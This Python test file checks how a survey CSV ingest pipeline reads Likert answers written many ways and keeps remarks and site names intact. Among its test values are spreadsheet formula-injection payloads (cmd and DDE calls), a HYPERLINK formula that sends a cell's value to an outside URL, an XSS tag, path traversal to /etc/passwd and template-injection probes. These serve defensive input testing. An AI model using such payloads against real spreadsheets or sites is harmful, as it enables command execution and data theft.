"""What may stand in a cell: an answer in any way of writing it, or a refusal with its place."""

from dataclasses import replace

import pytest

from pipeline.ingest.wording import one_line
from tests.ingest.layouts import LABELS, PEOPLE

from .corpus import (
    CLEAN,
    ITEM,
    Refused,
    Right,
    answering,
    csv_of,
    mapping,
    table,
    with_answer,
    with_cell,
)

NO_ANSWER = Refused(rf", row 2, column '{ITEM}': answer '[^']*' outside the scale: allowed are 1-5")
NOT_SHOWN = Refused(rf", row 2, column '{ITEM}': answer outside the scale: allowed are 1-5")
ANSWER, BLANK = answering("4"), answering("")
DONT_KNOW = answering("98")

ANSWERS = {
    "the code": ("4", ANSWER),
    "a decimal point": ("4.0", ANSWER),
    "many decimals": ("4.000000", ANSWER),
    "a decimal comma": ("4,0", ANSWER),
    "a half": ("4.5", NO_ANSWER),
    "a half with a comma": ("4,5", NO_ANSWER),
    "a plus": ("+4", ANSWER),
    "a minus": ("-4", NO_ANSWER),
    "a zero in front": ("04", ANSWER),
    "exponent notation": ("4E+00", NO_ANSWER),
    "exponent notation of Python": ("4e0", NO_ANSWER),
    "hexadecimal": ("0x4", NO_ANSWER),
    "underscores of Python": ("0_4", NO_ANSWER),
    "a space behind": ("4 ", ANSWER),
    "a tab behind": ("4\t", ANSWER),
    "NBSP around": ("\u00a04\u00a0", ANSWER),
    "an apostrophe of Excel": ("'4", Refused(rf", row 2, column '{ITEM}': answer ''4' outside")),
    "a full stop behind": ("4.", NO_ANSWER),
    "brackets": ("(4)", NO_ANSWER),
    "full-width digits": ("\uff14", ANSWER),
    "Arabic digits": ("\u0664", NO_ANSWER),
    "Devanagari digits": ("\u096a", NO_ANSWER),
    "a superscript": ("\u2074", ANSWER),
    "a circled number": ("\u2463", ANSWER),
    "a Roman number": ("IV", NO_ANSWER),
    "a Roman number of one character": ("\u2163", NO_ANSWER),
    "in words": ("four", NO_ANSWER),
    "a date that Excel made of 4-5": ("04-May", NO_ANSWER),
    "a date that Excel made of 4/5": ("2026-05-04", NO_ANSWER),
    "a day number of Excel": ("46146", NOT_SHOWN),
    "a time that Excel made of 4:00": ("04:00:00", NO_ANSWER),
    "a percentage": ("400%", NO_ANSWER),
    "money": ("4 €", NO_ANSWER),
    "true": ("TRUE", NO_ANSWER),
    "false": ("false", NO_ANSWER),
    "an error of Excel": ("#N/A", NO_ANSWER),
    "too narrow for Excel": ("####", NO_ANSWER),
    "NULL": ("NULL", NO_ANSWER),
    "None": ("None", NO_ANSWER),
    "nan": ("nan", NO_ANSWER),
    "infinity": ("inf", NO_ANSWER),
    "NA, which the mapping calls blank": ("NA", BLANK),
    "a hyphen": ("-", NO_ANSWER),
    "a full stop": (".", NO_ANSWER),
    "a question mark": ("?", NO_ANSWER),
    "-99": ("-99", NO_ANSWER),
    "999": ("999", NO_ANSWER),
    "0": ("0", NO_ANSWER),
    "6": ("6", NO_ANSWER),
    "a number of thirty digits": ("4" * 30, NOT_SHOWN),
    "two answers": ("4;5", NO_ANSWER),
    "two answers with a comma": ("4,5", NO_ANSWER),
    "nothing but a space": (" ", BLANK),
    "nothing but NBSP": ("\u00a0", BLANK),
    "nothing but marks nobody sees": ("\u200b\ufeff\u200e", BLANK),
    "nothing but quotation marks": ('""', NO_ANSWER),
    "an invisible mark behind": ("4\u200b", ANSWER),
    "a mark of direction in front": ("\u200f4", ANSWER),
    "letters turned around": ("\u202e4\u202c", ANSWER),
    "a control mark": ("4\x07", ANSWER),
    "colours of a terminal": ("\x1b[31m4", NO_ANSWER),
    "an emoji": ("\U0001f44d", NO_ANSWER),
    "a formula": ("=4", NO_ANSWER),
    "a formula of two numbers": ("=2+2", NO_ANSWER),
    "a command": ("=cmd|' /C calc'!A0", NOT_SHOWN),
    "an exchange of data": ('=DDE("cmd";"x")', NOT_SHOWN),
    "a formula with an at sign": ("@SUM(A1)", NOT_SHOWN),
    "a tag": ("<script>", NO_ANSWER),
    "a template": ("{{4*4}}", NO_ANSWER),
    "a path": ("../../etc", NO_ANSWER),
    "a percent sign": ("%s%n", NO_ANSWER),
    "a line break": ("9\n9", NO_ANSWER),
    "a cell of a million characters": ("canary " * 150_000, NOT_SHOWN),
    "a remark": ("canary-remark, a long one", NOT_SHOWN),
    "an address": ("canary@x.de", NOT_SHOWN),
    "the label": (LABELS[4], ANSWER),
    "the label in capitals": (LABELS[4].upper(), ANSWER),
    "the label with spaces": ("  Strongly \u00a0  disagree ", answering("1")),
    "the label in quotation marks": ('"Agree"', ANSWER),
    "the label with markup": ("<p><b>Agree</b>&nbsp;</p>", ANSWER),
    "the label with a full stop": ("Agree.", ANSWER),
    "the label in another language": ("Stimme zu", ANSWER),
    "a label decomposed": ("Stimme vo\u0308llig zu", answering("5")),
    "the number before the label": ("4 - Agree", ANSWER),
    "the number in brackets before the label": ("(4) Agree", ANSWER),
    "another number before the label": ("5 - Agree", NO_ANSWER),
    "the number behind the label": ("Agree (4)", NO_ANSWER),
    "an unknown label": ("Somewhat", NO_ANSWER),
    "a misspelt label": ("Agre", NO_ANSWER),
    "two labels": ("Agree;Agree", NO_ANSWER),
    "words of two languages": ("Agree zu", NO_ANSWER),
    "a special code that this item does not offer": ("98", DONT_KNOW),
    "the label of a special code": ("Don't know", DONT_KNOW),
    "the label of a special code with another apostrophe": ("Don\u02bct know", DONT_KNOW),
    "the label of a special code with question mark": ("don\u2019t know?", DONT_KNOW),
}
"""What stands where the first person was asked, and what must come out."""


@pytest.mark.parametrize("case", ANSWERS)
def test_an_answer_is_read_or_its_place_is_told(case, judge):
    text, expected = ANSWERS[case]
    judge(csv_of(with_answer(text)), expected)


REMARKS = {
    "a formula": "=1+1",
    "a formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "an exchange of data": '=DDE("cmd","/C calc","x")',
    "a link": '=HYPERLINK("http://example.org?x="&A1,"x")',
    "markup": "<img src=x onerror=alert(1)>",
    "right to left": "\u202eabc\u202d \u0645\u0631\u062d\u0628\u0627",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4",
    "control marks": "a\x01\x02\x1b[31mb\x7f",
    "marks stacked on a letter": "Z" + "\u0301" * 500,
    "a non-character": "\ufffe\uffff\U0010ffff",
    "private use": "\ue000\uf8ff",
    "a megabyte": "x" * 1_000_000,
    "a megabyte of quotation marks": '"' * 500_000,
    "a megabyte of line breaks": "\n" * 1_000_000,
    "JSON": '{"responses": [1, 2]}',
    "YAML": "columns: {aaa101: x}",
    "another export": "a,b;c\td|e\n1,2;3\t4|5",
    "the word responses first": '{"responses"',
    "a path": "../../../etc/passwd",
    "a template": "{{ 7*7 }} ${x} %(y)s {0}",
}


@pytest.mark.parametrize("case", REMARKS)
def test_a_remark_can_be_anything(case, judge):
    judge(csv_of(with_cell(3, "remarks", REMARKS[case])), CLEAN)


SITES = ["=1+1", "..", "CON", "a/b\\c", "\u202eabc", "<b>x</b>", "N\u00f6rd " * 50, "\U0001f600"]


@pytest.mark.parametrize("name", SITES)
def test_the_name_of_a_site_can_be_anything(name, judge):
    renamed = [[name if cell == "North" else cell for cell in row] for row in table()]
    judge(csv_of(renamed), Right(tuple(at(one, one_line(name)) for one in PEOPLE)))


def at(one, site):
    return replace(one, site=site if one.site == "North" else one.site)


RECORDS = {
    "done in other words": ("done", "yes", CLEAN),
    "done in no word": ("done", "maybe", Refused(", row 2, column 'done': 1 rows say neither")),
    "done as a number of Excel": ("done", "1.0", Refused(", row 2, column 'done'")),
    "a duration of no number": ("took", "long", CLEAN),
    "a negative duration": ("took", "-300", CLEAN),
    "an endless duration": ("took", "1e999", CLEAN),
    "a duration of a thousand digits": ("took", "9" * 1000, CLEAN),
    "a response id of NBSP": ("who", "\u00a0", CLEAN),
    "a response id that became a float": ("who", "1.0E+15", CLEAN),
    "no site": ("place", "", Right(PEOPLE[1:])),
    "a site in capitals": ("place", "NORTH", Right(tuple(at(one, "NORTH") for one in PEOPLE))),
    "a site with NBSP": ("place", "North\u00a0", CLEAN),
}
"""Column, what stands there for the first person, and what must come out."""


@pytest.mark.parametrize("case", RECORDS)
def test_what_is_known_about_a_response_can_be_wrong(case, judge):
    heading, text, expected = RECORDS[case]
    judge(csv_of(with_cell(2, heading, text)), expected)


BLANKS = {
    "NA": ("NA", ["NA"]),
    "-99": ("-99", ["-99"]),
    "several texts": (".", ["NA", ".", "NULL"]),
}


@pytest.mark.parametrize("case", BLANKS)
def test_a_text_for_no_answer_is_blank_where_the_mapping_says_so(case, judge):
    text, blank = BLANKS[case]
    files = {"export.csv": csv_of(with_answer(text)), "blank.yaml": mapping(blank=blank)}
    judge(files, BLANK, mapping=judge.path("blank.yaml"))
